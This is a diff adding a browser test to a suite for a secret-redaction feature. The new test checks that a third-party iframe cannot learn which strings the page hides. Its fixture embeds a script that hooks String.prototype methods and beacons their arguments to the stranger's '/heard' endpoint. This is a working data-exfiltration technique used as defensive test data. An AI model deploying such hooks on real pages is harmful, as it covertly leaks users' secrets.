@@ -84,6 +84,20 @@ new MutationObserver(() => { if (left-- > 0) p.textContent = 'Hello ${username}'
   expect(isPair()).toBe(true);
 });
 
+test("a stranger's frame is not told what to strike out", async ({ browser }) => {
+  const hook = `<script>for (const name of ['includes', 'indexOf', 'split', 'replaceAll'])
+    { const own = String.prototype[name]; String.prototype[name] = function (...given) {
+      navigator.sendBeacon('/heard?' + encodeURIComponent(String(given[0])));
+      return own.apply(this, given); }; } 'a'.includes('hooked');</script><p>Hello</p>`;
+  await using stranger = await serve({ '/frame': hook, '/heard': '' });
+
+  await pictureAfterLogin(browser, first, () => `<iframe src="${stranger.base}/frame"></iframe>`);
+
+  const heard = decodeURIComponent(stranger.requests.join(' '));
+  expect(heard).toContain('hooked');
+  for (const secret of Object.values(first)) expect(heard).not.toContain(secret);
+});
+
 test('what is no secret stays readable', async ({ browser }) => {
   const one = await pictureAfterLogin(
     browser,
